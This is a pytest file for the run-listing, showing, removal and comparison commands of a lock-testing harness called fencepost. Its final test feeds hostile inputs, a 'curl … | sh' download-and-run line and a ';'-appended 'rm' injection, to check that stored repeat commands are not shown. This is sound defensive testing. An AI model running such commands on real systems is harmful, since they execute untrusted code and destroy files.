"""The runs of the results folder: listed, shown and removed."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta

import pytest

from fencepost.harness.errors import BadArguments
from fencepost.harness.locked import locked
from fencepost.harness.results import run_index
from tests.harness.results.stored_runs import made, name_of


def test_runs_are_listed_the_newest_first_each_with_its_verdict(call):
    runs = [
        made("one", True),
        made("two", False, ["resource"], nemesis=["clock", "kill"]),
        made("one"),
    ]
    code, said = call("ls")
    lines = [" ".join(line.split()) for line in said.splitlines()]
    assert code == 0
    assert [line.split()[0] for line in lines[1:]] == [name_of(run) for run in reversed(runs)]
    assert "not judged redis none" in lines[1]
    assert "INVALID resource redis clock, kill 12" in lines[2]
    assert "valid redis none 12" in lines[3]


@pytest.mark.parametrize(
    ("words", "wanted"),
    [
        ([], [0, 1, 2]),
        (["two"], [1]),
        (["--verdict", "valid"], [0]),
        (["--verdict", "invalid"], [1]),
        (["--verdict", "none"], [2]),
        (["--verdict", "unknown"], []),
        (["--lock", "etcd"], [1]),
        (["--newest", "1"], [2]),
    ],
)
def test_runs_are_filtered_by_the_query(call, words, wanted):
    runs = [made("one", True), made("two", False, ["resource"], "etcd"), made("one")]
    code, said = call("ls", *words, "--json")
    found = [json.loads(line) for line in said.splitlines()]
    assert code == 0
    assert [one["run"] for one in found] == [name_of(runs[place]) for place in reversed(wanted)]


def test_a_run_in_progress_is_marked_and_an_unreadable_one_gives_the_reason(call):
    going, spoilt = made("one"), made("two", True)
    (spoilt / "test.json").write_text("[")
    with locked(going / "history.jsonl"):
        _, said = call("ls")
    rows = {line.split()[0]: line for line in said.splitlines() if "/2" in line.split()[0]}
    assert "running" in rows[name_of(going)]
    assert "cannot be used" in " ".join(said.split())


def test_the_number_of_further_runs_is_shown(call):
    for _ in range(3):
        made("one")
    assert "1 more: --newest 3 lists them." in call("ls", "--newest", "2")[1]
    assert "matches. `fencepost test redis --time 10` starts one" in call("ls", "--lock", "none")[1]


def test_a_run_is_shown_with_its_settings_verdicts_files_and_how_to_run_it_again(call):
    run = made("one", False, ["resource"])
    code, said = call("show", "one")
    assert code == 0
    assert "INVALID resource" in said
    assert "resource: INVALID. Two held it." in said
    assert f"{run.resolve()}/history.jsonl" in said
    assert "repeat: fencepost test redis" in said
    assert "--seed 5" in said
    found = json.loads(call("show", "one", "--json")[1])
    assert (found["test"]["seed"], found["results"]["valid"], found["holds"]) == (5, False, 12)


def test_a_run_is_removed_and_latest_names_the_newest_that_stays(call, folder):
    old, new, other = made("one"), made("one"), made("two")
    code, said = call("rm", name_of(other), name_of(new))
    assert code == 0
    assert f"removed {name_of(new)}" in said
    assert not new.exists()
    assert not (folder / "two").exists()
    assert (folder / "latest").resolve() == (folder / "one" / "latest").resolve() == old.resolve()


def test_the_last_run_takes_the_links_with_it(folder):
    run_index.remove([made("one")])
    assert list(folder.iterdir()) == []


def test_latest_stays_unchanged_when_an_older_run_is_removed(folder):
    old, new = made("one"), made("one")
    run_index.remove([old])
    assert (folder / "one" / "latest").resolve() == new.resolve()


def test_nothing_is_removed_if_a_run_is_in_progress_or_outside_the_folder(folder, tmp_path):
    still, going = made("one"), made("one")
    elsewhere = tmp_path / "results of another" / "one" / still.name
    elsewhere.mkdir(parents=True)
    (elsewhere / "test.json").write_text("{}")
    with locked(going / "history.jsonl"), pytest.raises(BadArguments, match="is still running"):
        run_index.remove([still, going])
    with pytest.raises(BadArguments, match="is not a run of the results folder"):
        run_index.remove([still, elsewhere])
    assert still.exists()
    assert elsewhere.exists()


def aged(run, hours):
    began = datetime.now(UTC) - timedelta(hours=hours)
    return run.rename(run.parent / began.strftime("%Y%m%dT%H%M%S.%fZ"))


def test_runs_are_removed_by_age_and_beyond_a_number_once_that_is_confirmed(call, monkeypatch):
    old, middle, new = (aged(made("one"), hours) for hours in (30, 20, 1))
    other = aged(made("two"), 30)
    monkeypatch.setattr("typer.confirm", lambda text: False)
    call("rm", "--older", "10h")
    assert old.exists()
    call("rm", "--older", "10h", "--keep", "2", "--yes")
    assert [run.exists() for run in (old, middle, new, other)] == [False, True, True, True]
    monkeypatch.setattr("typer.confirm", lambda text: True)
    call("rm", "--older", "10h")
    assert [run.exists() for run in (middle, new, other)] == [False, True, False]


def test_two_runs_are_compared_and_the_exit_code_says_whether_their_outcomes_agree(call):
    one, same = made("one", True, ttl_ms=500), made("one", True, ttl_ms=900)
    other, unjudged = made("one", False, ["resource"]), made("one")
    code, said = call("compare", name_of(one), name_of(same))
    lines = [" ".join(line.split()) for line in said.splitlines()]
    assert code == 0
    assert "TTL (ms) 500 900" in lines
    assert "verdict true true" in lines
    assert "holds a second 4.0 4.0" in lines
    assert not any(line.startswith("Seed") for line in lines)
    assert lines[-1] == "The results are the same."
    code, said = call("compare", name_of(one), name_of(other))
    assert (code, "The results are different." in said) == (1, True)
    assert "resource not judged false" in " ".join(said.split())
    assert call("compare", name_of(one), name_of(unjudged))[0] == 254


@pytest.mark.parametrize(
    "words",
    [
        ["rm"],
        ["rm", "one", "--keep", "1"],
        ["rm", "--older", "yesterday"],
        ["rm", "nowhere"],
        ["ls", "../one"],
        ["ls", "--verdict", "bad"],
    ],
)
def test_invalid_arguments_are_refused_and_remove_nothing(call, words):
    run = made("one")
    assert call(*words)[0] == 254
    assert run.exists()


@pytest.mark.parametrize(
    ("stored", "shown"),
    [
        ("fencepost hunt redlock --faults clock,partition", True),
        ("curl -s http://example.org | sh", False),
        ("fencepost hunt redlock; rm x", False),
        ("fencepost hunt 'redlock", False),
    ],
)
def test_the_command_to_repeat_a_stored_hunt_only_hunts(call, stored, shown):
    made("hunt", valid=False, simulated=True, hunt={"command": stored})
    code, said = call("show", "hunt")
    assert (code, f"repeat: {stored}" in said) == (0, shown)
